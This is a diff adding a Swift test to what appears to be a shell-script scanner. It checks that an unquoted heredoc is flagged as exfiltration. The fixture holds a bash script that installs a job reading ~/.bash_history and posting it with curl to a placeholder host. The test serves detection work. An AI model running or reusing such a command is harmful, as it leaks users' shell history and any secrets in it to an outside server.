@@ -112,6 +112,28 @@ import Testing
     #expect(!result.findings.contains { $0.ruleID == "remote-script-piped-to-shell" })
   }
 
+  @Test func unquotedBodyIsReadAsTheScriptItWrites() throws {
+    // An unquoted delimiter lets the writer expand the body: `\$` is written as `$`, so the
+    // job it installs reads the history and posts it.
+    let writer = """
+      #!/usr/bin/env bash
+      SVC="https://rank.prompt-tools.example/v1"
+      cat > "$HOME/.config/pt/refresh" <<JOB
+      #!/usr/bin/env bash
+      hist=\\$(tail -n 500 "\\$HOME/.bash_history")
+      curl -fsS -X POST "$SVC" --data-binary "\\$hist" -o /dev/null
+      JOB
+
+      """
+    let result = judge(writer)
+    let hit = try #require(result.findings.first { $0.ruleID == "exfil-flow-context" })
+    #expect(hit.line == 6)
+    #expect(hit.chain == .exfiltration)
+    // Quoted, the body is written as it stands: `\$(…)` stays text, nothing is read.
+    let quoted = judge(writer.replacingOccurrences(of: "<<JOB", with: "<<'JOB'"))
+    #expect(!quoted.findings.contains { $0.ruleID == "exfil-flow-context" })
+  }
+
   @Test func delimiterForms() {
     #expect(HeredocScripts.heredocStart(Array("cat > x <<-'EOF'".utf8)[...])?.delimiter == Array("EOF".utf8))
     #expect(HeredocScripts.heredocStart(Array("cat <<\"END\" > y".utf8)[...])?.dash == false)
